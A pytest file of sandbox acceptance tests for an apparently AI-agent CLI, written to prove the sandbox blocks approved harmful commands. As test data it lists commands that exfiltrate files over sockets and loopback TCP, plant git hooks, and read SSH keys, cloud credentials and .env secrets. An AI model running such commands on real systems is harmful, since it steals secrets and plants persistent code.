"""The sandbox is the boundary: each acceptance case as real commands in a real sandbox, judged by effects.

Every command here is *approved* (``run_approved``: the person says yes to every
question), so nothing but the sandbox stands between it and the canaries; each case
also runs its commands with the sandbox off, proving they really do the harm the
sandbox prevents (a test that could not fail would prove nothing). The real CLI runs
the same attacks under the engine's own decisions (``run_cli``), for both profiles.
"""

from __future__ import annotations

import pytest
from canaries import World
from runner import Report, needs_sandbox, run_approved, run_cli

pytestmark = needs_sandbox


def kinds(report: Report) -> set[tuple[str, str]]:
    return {(e.kind, e.target) for e in report.effects}


def all_ran(report: Report) -> None:
    assert all(o.ran for o in report.outcomes), (
        report.describe()
        + "\n"
        + "\n".join(f"{o.text}: {o.decision} {o.reason}" for o in report.outcomes)
    )


def unix_attacks(world: World) -> list[str]:
    sock = world.unix_socket
    return [
        f'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX); s.connect("{sock}"); s.sendall(open("README.md").read().encode())\'',
        f'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX); s.connect("{sock}"); s.sendall(b"ping")\'',
        f"nc -q1 -U {sock} < README.md || socat - UNIX-CONNECT:{sock} < README.md || curl -s --unix-socket {sock} http://x/ -d @README.md",
    ]


def test_a_unix_socket_listener_outside_is_unreachable(world: World) -> None:
    control = run_approved(world, unix_attacks(world)[1:2], sandbox=False)
    assert ("contacted", "unix") in kinds(control)  # the attack works without the sandbox
    for profile in ("assisted", "full-access"):
        report = run_approved(world, unix_attacks(world), profile=profile)
        all_ran(report)
        assert report.effects == [], report.describe()
        assert (
            "No such file or directory" in report.outcomes[1].output
        )  # the socket is not even there


def git_attacks() -> list[str]:
    return [
        "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > vendor/lib/.git/hooks/pre-commit",
        "chmod +x vendor/lib/.git/hooks/pre-commit; git -C vendor/lib config core.hooksPath ../../evil",
        "echo 'gitdir: /tmp/evil' > sub/.git",
        "mkdir -p .git/modules/sub/hooks && echo evil > .git/modules/sub/hooks/post-checkout",
        "rm -rf vendor/lib/.git; mv sub/.git sub/moved; ln -sfn /tmp vendor/lib/.git/hooks",
        "git -C vendor/lib commit --allow-empty -qm planted",
        'python3 -c \'open("vendor/lib/.git/config", "a").write("[core]\\n\\tfsmonitor = touch /tmp/x\\n")\'',
    ]


def test_nested_git_directories_and_git_files_are_read_only(world: World) -> None:
    control = run_approved(world, git_attacks()[:1], sandbox=False)
    assert ("git-write", "ws/vendor/lib/.git/hooks/pre-commit") in kinds(control)
    for profile in ("assisted", "full-access"):
        report = run_approved(world, git_attacks(), profile=profile)
        all_ran(report)
        assert report.effects == [], report.describe()
        assert "Read-only file system" in report.outcomes[0].output


def masked_reads() -> list[str]:
    return [
        'python3 -c \'print(open(".e" + "nv").read())\'',
        "grep -r API_KEY . ; true",
        "cat .[e]nv",
        "cp .e?v copy.txt && cat copy.txt",
    ]


def test_workspace_env_reads_as_masked_and_the_result_says_so(world: World) -> None:
    control = run_approved(world, masked_reads()[:1], sandbox=False)
    assert ("secret-seen", "ws/.env") in kinds(control)
    note = "[sandbox] .env is masked in the sandbox (the command found it empty); allow reading it with read(.env)"
    for profile in ("assisted", "full-access"):
        report = run_approved(world, masked_reads(), profile=profile)
        all_ran(report)
        assert report.effects == [], report.describe()
        for outcome in report.outcomes:
            assert note in outcome.output, outcome.output
    # Listing it, testing for it: no open, no note.
    quiet = run_approved(world, ["ls -la .env && test -f .env && echo there"])
    assert "there" in quiet.outcomes[0].output and "masked" not in quiet.outcomes[0].output


def test_reading_a_secret_the_person_allowed_shows_it(world: World) -> None:
    allowed = run_approved(
        world, ["cat .[e]nv"], extra_config='[permissions]\nallow = ["read(.env)"]\n'
    )
    assert ("secret-seen", "ws/.env") in kinds(allowed) and "masked" not in allowed.outcomes[
        0
    ].output
    world.reset()
    named = run_approved(world, ["cat .env"])  # asked about ("looks like a secret") and approved
    assert ("secret-seen", "ws/.env") in kinds(named)


def home_attacks(world: World) -> list[str]:
    real = world.root / "dotfiles" / "ssh"
    return [
        "cat ~/.ssh/id_rsa; ls -la ~/.ssh/",
        f"cat {real}/id_rsa; cat {real}/config",
        f"cat {world.home}/.aws/credentials {world.home}/.netrc",
        "find / -name 'id_rsa*' -exec cat {} + 2>/dev/null; true",
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -i canary; ps axeww 2>/dev/null | grep -i canary; true",
    ]


def test_a_symlinked_ssh_directory_and_home_secrets_are_hidden(make_world) -> None:
    world = make_world(ssh_link=True)
    control = run_approved(world, home_attacks(world)[:1], sandbox=False)
    assert ("secret-seen", "home/.ssh/id_rsa") in kinds(control)
    for profile in ("assisted", "full-access"):
        report = run_approved(world, home_attacks(world), profile=profile)
        all_ran(report)
        assert report.effects == [], report.describe()


def network_attacks(world: World) -> list[str]:
    port = world.tcp_port
    return [
        f'python3 -c \'import socket; socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfil")\'',
        f"exec 3<>/dev/tcp/127.0.0.1/{port} && cat README.md >&3",
        f"curl -s -m 3 http://127.0.0.1:{port}/ -d @README.md; wget -q -T 3 -O- http://127.0.0.1:{port}/; true",
    ]


def test_no_network_unless_approved_for_it(world: World) -> None:
    control = run_approved(world, network_attacks(world)[:1], sandbox=False)
    assert ("contacted", "tcp") in kinds(control)
    for profile in ("assisted", "full-access"):
        report = run_approved(world, network_attacks(world), profile=profile)
        all_ran(report)
        assert report.effects == [], report.describe()
    # Network for a call is the egress proxy's, never the host's: the host's loopback
    # listener stays out of reach even when the person approves the call's network.
    approved = run_approved(world, [{"command": network_attacks(world)[0], "network": True}])
    all_ran(approved)
    assert approved.effects == [], approved.describe()


@pytest.mark.parametrize("profile", ["assisted", "full-access"])
def test_the_real_cli_lets_nothing_through_whatever_the_engine_allowed(
    world: World, profile: str
) -> None:
    """The same attacks through ``ketch -p``: what the engine allows runs, in the sandbox.
    (The guards hold back the .git writes and the home reads; the socket, network and
    disguised-.env attacks get through the engine and must be stopped by the sandbox.)"""
    families = {
        "unix": unix_attacks(world),
        "git": git_attacks(),
        "masked": masked_reads(),
        "home": home_attacks(world)[:3],
        "network": network_attacks(world),
    }
    commands = [c for family in families.values() for c in family]
    report = run_cli(
        world, commands, profile=profile, extra_config='[permissions]\nallow = ["shell"]\n'
    )
    assert report.effects == [], report.describe()
    by_command = {o.text: o for o in report.outcomes}
    decisions = [(o.text[:60], o.decision) for o in report.outcomes]
    for family in ("unix", "masked", "network"):
        assert any(by_command[c].ran for c in families[family]), (family, decisions)
    for command in families["masked"]:
        if by_command[command].ran:
            assert "[sandbox] .env is masked in the sandbox" in by_command[command].output, (
                by_command[command].output
            )
